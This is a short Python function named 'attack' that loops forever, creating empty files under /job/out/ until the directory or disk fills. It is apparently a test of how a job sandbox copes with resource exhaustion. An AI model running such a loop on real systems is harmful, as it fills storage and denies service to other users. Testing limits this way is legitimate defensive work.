def attack():
    i = 0
    while True:
        open("/job/out/f%d" % i, "w").close()
        i += 1
